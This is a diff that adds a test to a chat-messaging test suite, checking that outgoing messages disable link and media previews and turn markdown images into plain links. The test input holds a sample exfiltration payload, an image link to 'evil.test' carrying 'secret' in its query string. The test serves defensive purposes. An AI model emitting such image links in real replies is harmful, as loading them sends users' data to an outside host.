@@ -187,6 +187,17 @@ describe("an answer that is written", () => {
     expect(words(messages.map(({ text: part }) => part).join("\n"))).toBe(words(text));
   });
 
+  it("loads and previews nothing (IN-5)", async () => {
+    const outgoing = new Outgoing();
+    await outgoing.send("See ![x](https://evil.test/?q=secret) and https://a.test", { isFinal: true });
+    const posted = (await outgoing.channel.calls()).find(({ method }) => method === "chat.postMessage");
+    expect(posted?.parameters).toMatchObject({
+      unfurl_links: "false",
+      unfurl_media: "false",
+      markdown_text: "See [x (image)](https://evil.test/?q=secret) and https://a.test",
+    });
+  });
+
   it("is several messages too when it comes at once, and fewer after a change", async () => {
     const outgoing = new Outgoing();
     const text = Array.from({ length: 600 }, (_, index) => line(index)).join("\n\n");
